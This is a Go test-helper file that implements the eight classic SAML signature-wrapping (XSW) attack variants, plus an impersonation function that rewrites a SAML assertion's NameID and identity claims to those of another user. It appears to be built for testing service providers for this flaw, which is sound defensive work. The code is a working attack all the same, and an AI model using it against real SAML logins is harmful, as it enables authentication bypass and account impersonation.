package samltest

import (
	"fmt"

	"github.com/beevik/etree"
)

// XSW applies signature-wrapping attack variant n (1–8, the classic set of Somorovsky et al.
// "On Breaking SAML", as SAML Raider names them) to a signed response document, in place.
// evil changes the attacker's copy of the assertion (typically its NameID). Variants 1 and 2
// need a signed Response, 3 to 8 a signed Assertion. In every variant the signed bytes stay
// intact somewhere in the document, so the signature still verifies; an SP is vulnerable if it
// reads its identity from the attacker's copy.
func XSW(n int, doc *etree.Document, evil func(assertion *etree.Element)) error {
	resp := doc.Root()
	if resp == nil {
		return fmt.Errorf("samltest: XSW%d: empty document", n)
	}
	switch n {
	case 1, 2:
		// The original signed Response moves into the signature (1) or next to it (2); the root
		// becomes an unsigned evil Response with a new ID, whose signature's reference now
		// points at the original.
		sig := Child(resp, "Signature")
		if sig == nil {
			return fmt.Errorf("samltest: XSW%d needs a signed Response", n)
		}
		orig := resp.Copy()
		if s := Child(orig, "Signature"); s != nil {
			orig.RemoveChild(s)
		}
		if n == 1 {
			sig.AddChild(orig)
		} else {
			resp.InsertChildAt(sig.Index(), orig)
		}
		resp.CreateAttr("ID", NewID())
		a := Child(resp, "Assertion")
		if a == nil {
			return fmt.Errorf("samltest: XSW%d: no assertion", n)
		}
		evil(a)
		return nil
	}
	a := Child(resp, "Assertion")
	if a == nil || Child(a, "Signature") == nil {
		return fmt.Errorf("samltest: XSW%d needs a signed Assertion directly in the Response", n)
	}
	unsignedCopy := func() *etree.Element {
		c := a.Copy()
		if s := Child(c, "Signature"); s != nil {
			c.RemoveChild(s)
		}
		return c
	}
	switch n {
	case 3:
		// An evil unsigned assertion with a new ID before the signed one.
		e := unsignedCopy()
		e.CreateAttr("ID", NewID())
		evil(e)
		resp.InsertChildAt(a.Index(), e)
	case 4:
		// The evil assertion wraps the signed one.
		e := unsignedCopy()
		e.CreateAttr("ID", NewID())
		evil(e)
		idx := a.Index()
		resp.RemoveChild(a)
		e.AddChild(a)
		resp.InsertChildAt(idx, e)
	case 5:
		// The evil assertion keeps the original ID and signature; an unsigned copy of the original
		// goes to the end of the Response.
		e := a.Copy()
		evil(e)
		orig := unsignedCopy()
		idx := a.Index()
		resp.RemoveChild(a)
		resp.InsertChildAt(idx, e)
		resp.AddChild(orig)
	case 6:
		// As 5, with the unsigned original inside the evil assertion's signature.
		e := a.Copy()
		evil(e)
		Child(e, "Signature").AddChild(unsignedCopy())
		idx := a.Index()
		resp.RemoveChild(a)
		resp.InsertChildAt(idx, e)
	case 7:
		// The signed assertion hides in an Extensions element; an evil copy with the same ID takes
		// its place.
		ext := etree.NewElement("samlp:Extensions")
		e := unsignedCopy()
		evil(e)
		idx := a.Index()
		resp.RemoveChild(a)
		ext.AddChild(a)
		resp.InsertChildAt(idx, ext)
		resp.InsertChildAt(idx+1, e)
	case 8:
		// The evil assertion keeps the signature, whose Object holds the unsigned original.
		e := a.Copy()
		evil(e)
		obj := Child(e, "Signature").CreateElement("Object")
		obj.AddChild(unsignedCopy())
		idx := a.Index()
		resp.RemoveChild(a)
		resp.InsertChildAt(idx, e)
	default:
		return fmt.Errorf("samltest: no XSW variant %d", n)
	}
	return nil
}

// Impersonate returns an evil function for XSW and tampering tests that makes the assertion
// name u instead: NameID, object id, name and e-mail claims.
func Impersonate(u EntraUser) func(*etree.Element) {
	return func(a *etree.Element) {
		if nid := Path(a, "Subject", "NameID"); nid != nil {
			nid.SetText(u.UPN)
		}
		as := Child(a, "AttributeStatement")
		if as == nil {
			return
		}
		for _, at := range as.ChildElements() {
			v := Child(at, "AttributeValue")
			if v == nil {
				continue
			}
			switch at.SelectAttrValue("Name", "") {
			case ClaimObjectID:
				v.SetText(u.ObjectID)
			case ClaimName:
				v.SetText(u.UPN)
			case ClaimEmail:
				v.SetText(u.Email)
			}
		}
	}
}
